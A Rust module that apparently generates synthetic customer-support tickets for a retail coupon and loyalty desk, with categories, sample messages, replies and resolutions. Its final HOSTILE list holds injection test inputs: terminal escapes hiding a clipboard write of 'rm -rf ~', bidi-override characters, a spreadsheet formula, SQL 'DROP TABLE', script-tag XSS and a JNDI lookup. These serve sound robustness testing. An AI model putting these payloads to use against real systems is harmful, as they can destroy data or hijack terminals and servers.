//! What customers write about, and how it ends.

use crate::domain::ticket::{Priority, ResolutionType};

/// A sort of case.
pub struct Story {
    /// Category of the desk.
    pub category: &'static str,
    /// How soon it needs care.
    pub priority: Priority,
    /// How often, against the others.
    pub weight: u64,
    /// In a line; `{offer}` and `{store}` are filled in.
    pub subjects: &'static [&'static str],
    /// At length.
    pub descriptions: &'static [&'static str],
    /// What the customer adds.
    pub customer: &'static [&'static str],
    /// What the agent answers.
    pub replies: &'static [&'static str],
    /// What only the house reads.
    pub internal: &'static [&'static str],
    /// How it ends.
    pub ends: &'static [(ResolutionType, &'static str)],
}

use ResolutionType::{CannotReproduce, Duplicate, Other, Solved, WontFix, Workaround};

/// All sorts.
pub const STORIES: &[Story] = &[
    Story {
        category: "missing_offer",
        priority: Priority::Medium,
        weight: 26,
        subjects: &[
            "Offer \"{offer}\" never arrived",
            "Missing offer after spending the minimum",
            "{offer} is in the e-mail but not in the app",
            "Neighbour got the coupon, I did not",
        ],
        descriptions: &[
            "The customer was told about \"{offer}\" by e-mail, but it is not in the wallet. They shopped twice since.",
            "Customer called: spent over the minimum last Saturday and never received {offer}. Has the receipt.",
            "Caller is sure that the offer was on the weekly flyer. Asks for it to be added by hand.",
        ],
        customer: &[
            "I can send a photo of the receipt if that helps.",
            "Any news? The offer ends this week.",
            "Thank you, I see it now!",
        ],
        replies: &[
            "Thank you for your patience. I have checked the wallet and am adding the offer for you.",
            "Could you tell me the store and the day of the purchase?",
            "The offer is in your wallet now; please refresh the app.",
        ],
        internal: &[
            "Not in wallet nor history; was eligible by date.",
            "Campaign export of the partner skipped this segment.",
            "Verified by address and joining date.",
        ],
        ends: &[
            (
                Solved,
                "Added the offer to the wallet; the customer sees it in the app.",
            ),
            (
                Solved,
                "Eligible, offer was missing; added by hand and confirmed on the phone.",
            ),
            (
                WontFix,
                "Not eligible: the purchase was before the campaign began. Explained.",
            ),
        ],
    },
    Story {
        category: "coupon_not_working",
        priority: Priority::High,
        weight: 20,
        subjects: &[
            "\"{offer}\" refused at the till",
            "Coupon shows as used, but it was not",
            "Barcode does not scan at {store}",
            "Discount missing on receipt",
        ],
        descriptions: &[
            "The cashier at {store} could not scan {offer}. The customer paid the full price and wants the difference.",
            "Customer states that the coupon was marked as used although the receipt shows no discount.",
            "Scanned twice, declined twice. Items were eligible as far as the customer can tell.",
        ],
        customer: &[
            "It happened again today.",
            "The manager told me to call you.",
            "Here is the number on the receipt: 0417-2231-88.",
        ],
        replies: &[
            "I am sorry about that. I have reissued the coupon with a new date.",
            "I see the redemption here; may I ask which items were bought?",
            "Please try once more at the till; it is active now.",
        ],
        internal: &[
            "Redemption was recorded without a basket; looks like the till gave up.",
            "Reissued once already in spring.",
            "Till firmware known for this, see the store bulletin.",
        ],
        ends: &[
            (
                Solved,
                "Reissued the used token; the redemption had failed at the till.",
            ),
            (Workaround, "Credited by the store; the coupon stays used."),
            (
                CannotReproduce,
                "Scans in two test stores; the customer will try again.",
            ),
        ],
    },
    Story {
        category: "expired_offer",
        priority: Priority::Medium,
        weight: 16,
        subjects: &[
            "Offer expired before I could use it",
            "Please extend \"{offer}\"",
            "Reward ran out while I was in hospital",
        ],
        descriptions: &[
            "{offer} expired two days ago. The customer was travelling and asks for a new one.",
            "The app said it was good until the end of the month. It was not.",
        ],
        customer: &["That would be very kind.", "I have been a member for years."],
        replies: &[
            "As an exception I have reissued the offer. It is good for another 30 days.",
            "I am afraid this one cannot be reissued again.",
        ],
        internal: &[
            "Time zone confusion: expired at midnight UTC, store closes later.",
            "Goodwill approved by supervisor.",
        ],
        ends: &[
            (Solved, "Reissued once as goodwill."),
            (WontFix, "Was reissued before; explained the terms."),
            (Other, "The customer found another offer to use."),
        ],
    },
    Story {
        category: "points",
        priority: Priority::Medium,
        weight: 14,
        subjects: &[
            "Points missing for purchase at {store}",
            "Reward not paid out",
            "Points balance looks wrong",
        ],
        descriptions: &[
            "Customer expects points for a purchase of about $63 and does not see them.",
            "Quarterly reward was not paid out. The customer counts 1,250 points, the app shows 250.",
        ],
        customer: &["I used my phone number at the till.", "Still missing."],
        replies: &[
            "Points can take two days. I have noted it and will look again tomorrow.",
            "The points are in your account now.",
        ],
        internal: &[
            "Purchase was booked on the spouse's card.",
            "Batch of the 14th arrived late.",
        ],
        ends: &[
            (Solved, "Late batch arrived; points are there."),
            (Duplicate, "Same as an earlier ticket of this customer."),
        ],
    },
    Story {
        category: "shared_offer",
        priority: Priority::Low,
        weight: 8,
        subjects: &[
            "Shared an offer to the wrong person",
            "Gift did not arrive at my daughter's",
        ],
        descriptions: &[
            "{offer} was shared to the wrong number and the customer wants it back.",
            "The recipient cannot find the gift in her app.",
        ],
        customer: &["She has the app since yesterday."],
        replies: &["A shared offer stays with the person who got it, but I can add it for you once more."],
        internal: &["Recipient has not opened it."],
        ends: &[
            (Solved, "Added again for the sender; the shared one stays."),
            (WontFix, "Already redeemed by the recipient."),
        ],
    },
    Story {
        category: "wrong_value",
        priority: Priority::Medium,
        weight: 8,
        subjects: &[
            "\"{offer}\" took less off than it says",
            "Wrong percentage on receipt",
        ],
        descriptions: &[
            "Receipt from {store} shows half of the discount. Copy is attached to the interaction.",
        ],
        customer: &["It is about the principle."],
        replies: &["You are right, and I am sorry. The dispute is open and the difference will follow."],
        internal: &["Clearance items are excluded; three of five were."],
        ends: &[
            (Solved, "Dispute upheld; reissued."),
            (WontFix, "Excluded items; explained with the terms."),
        ],
    },
    Story {
        category: "account_access",
        priority: Priority::High,
        weight: 6,
        subjects: &[
            "Cannot sign in to the app",
            "Two accounts with the same e-mail address?",
            "Phone number changed",
        ],
        descriptions: &[
            "Customer has a new number and cannot receive the code. Verified by address.",
            "App says the e-mail address is taken.",
        ],
        customer: &["I need it today, I am in the store."],
        replies: &["I have sent a new link to your e-mail address."],
        internal: &["Old number belongs to a former spouse; do not reveal anything there."],
        ends: &[
            (Solved, "Number corrected by tier 2."),
            (Workaround, "Signs in by e-mail for now."),
        ],
    },
    Story {
        category: "suspected_fraud",
        priority: Priority::Urgent,
        weight: 3,
        subjects: &[
            "Offers used in a store that I never visited",
            "Unknown redemptions on my card",
        ],
        descriptions: &["Four redemptions within one hour at {store}. The customer lives two states away."],
        customer: &["Please block it."],
        replies: &["I have removed the offers in question and passed this on to our second tier."],
        internal: &["Same pattern on three other accounts this week."],
        ends: &[(Solved, "Tokens removed, disputes upheld, replacements issued.")],
    },
    Story {
        category: "other",
        priority: Priority::Low,
        weight: 5,
        subjects: &[
            "Question about paper coupons",
            "Compliment for the team at {store}",
            "Nutzung in Deutschland? 日本でも使えますか？",
        ],
        descriptions: &[
            "Asks whether paper coupons can be combined with offers in the app.",
            "سؤال عن العروض: هل يمكن استخدامها عبر الإنترنت؟ 👋",
        ],
        customer: &["Thanks anyway!"],
        replies: &["Paper coupons and app offers cannot be combined on one item."],
        internal: &["No action needed."],
        ends: &[(Other, "Answered.")],
    },
];

/// Stores that stories happen in.
pub const STORES: &[&str] = &[
    "Store 4417, Providence",
    "Store 0112, Boston",
    "Store 2290, Hartford",
    "Store 8836, Miami",
    "Store 5021, Chicago",
];

/// Subjects and descriptions that try something; data is data.
pub const HOSTILE: &[(&str, &str)] = &[
    (
        "Screen \u{1b}[2J\u{1b}[Hcleared \u{1b}]0;owned\u{7}",
        "Pasted from a terminal: \u{1b}[31mred\u{1b}[0m \u{1b}]52;c;cm0gLXJmIH4=\u{7} and \u{9b}6n.",
    ),
    (
        "Right \u{202e}to left\u{2069} and back",
        "The subject hides \u{202e}something\u{202c}; zero\u{200b}width\u{feff} too.",
    ),
    (
        "=HYPERLINK(\"https://example.com\";\"click\")",
        "'; DROP TABLE tickets; -- <script>alert(1)</script> ${jndi:ldap://example.com}",
    ),
];
